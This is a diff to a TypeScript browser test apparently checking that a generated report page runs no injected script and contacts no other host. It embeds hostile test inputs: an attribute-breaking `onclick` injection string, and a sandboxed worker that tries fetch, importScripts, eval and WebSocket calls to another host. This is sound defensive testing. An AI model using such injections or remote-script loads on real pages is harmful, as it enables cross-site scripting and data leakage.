@@ -1,4 +1,6 @@
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { pathToFileURL } from "node:url";
@@ -12,6 +14,7 @@ import type { Result } from "../format/read-result.ts";
 import { openChromium } from "../machine/chromium.ts";
 import { plotlyText } from "../store/figure-files.ts";
 import { reportPage } from "./page.ts";
+import { onePagePrograms } from "./page-programs.ts";
 
 const elsewhere = "http://elsewhere.example/";
 const runs = "window.hacked = (window.hacked ?? 0) + 1";
@@ -46,11 +49,20 @@ describe("a page of hostile texts", () => {
   const store = smallStore();
   const result = hostileResult(store.picture());
   let browser: Browser;
+  /** Another host, which is there: a worker's requests are not the page's, and nobody else would see them. */
+  const reached: (string | undefined)[] = [];
+  const other = createServer(({ url }, response) => {
+    reached.push(url);
+    response.writeHead(200, { "content-type": "text/javascript" }).end();
+  });
   beforeAll(async () => {
+    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
     browser = await openChromium();
   });
   afterAll(async () => {
     await browser?.close();
+    other.closeAllConnections();
+    other.close();
     store.remove();
     rmSync(place, { recursive: true, force: true });
   });
@@ -83,6 +95,7 @@ describe("a page of hostile texts", () => {
       asked,
       links: links.filter((link) => /^\s*javascript:/i.test(link)),
       scripts: scripts.filter((script) => script === runs),
+      listed: await tab.evaluate("window.listed"),
     };
     await tab.close();
     return harm;
@@ -94,7 +107,29 @@ describe("a page of hostile texts", () => {
       await draw(each);
     }
   })()`;
-  const NONE = { hacked: undefined, asked: [], links: [], scripts: [] };
+  const NONE = { hacked: undefined, asked: [], links: [], scripts: [], listed: undefined };
+  /** A stranger's program in the worker: it looks for the page, asks another host, and reports texts. */
+  const stranger = (host: string) => `onmessage = async () => {
+    const found = [typeof document, typeof window, typeof localStorage];
+    const socket = () => new Promise((resolve, reject) => {
+      const opened = new WebSocket("ws://${host}");
+      opened.onopen = resolve;
+      opened.onerror = reject;
+    });
+    const fetched = () => fetch("http://${host}/fetched", { mode: "no-cors" });
+    for (const ask of [fetched, () => importScripts("http://${host}/imported.js"), () => eval("1"), socket]) {
+      try { await ask(); found.push("let"); } catch { found.push("refused"); }
+    }
+    postMessage({ difference: ${JSON.stringify(hostile)} });
+    postMessage({ failure: found.join() });
+    postMessage({ refused: ${JSON.stringify(hostile)} });
+  };`;
+  const RECOMPUTE = `(async () => {
+    const box = document.querySelector("[data-recompute]");
+    box.querySelector("[data-do=sample]").click();
+    while (!box.querySelector("progress").hidden) await new Promise((resolve) => setTimeout(resolve, 10));
+    window.listed = [...box.querySelectorAll("li"), box.querySelector("output")].map((each) => each.textContent);
+  })()`;
 
   it("that is the report runs none of them and loads nothing", async () => {
     const [first, ...others] = claims;
@@ -123,9 +158,20 @@ describe("a page of hostile texts", () => {
       bibtex: new Map([[result.id, hostile]]),
       plotly: plotlyText(),
       reference: `x" onclick="${runs}`,
+      programs: {
+        page: (await onePagePrograms([])).page,
+        worker: stranger(`127.0.0.1:${(other.address() as AddressInfo).port}`),
+        ids: new Set([pictured.id]),
+        absent: new Map(),
+      },
     });
     expect(page.split("window.hacked").length).toBeGreaterThan(20);
-    expect(await harmOf("report.html", page, DRAW_ALL)).toEqual(NONE);
+    const seen = ["undefined", "undefined", "undefined", "refused", "refused", "refused", "refused"];
+    expect(await harmOf("report.html", page, `${DRAW_ALL}.then(() => ${RECOMPUTE})`)).toEqual({
+      ...NONE,
+      listed: [hostile, seen.join(), hostile],
+    });
+    expect(reached).toEqual([]);
   });
 
   it("that is a figure runs none of them and loads nothing", async () => {
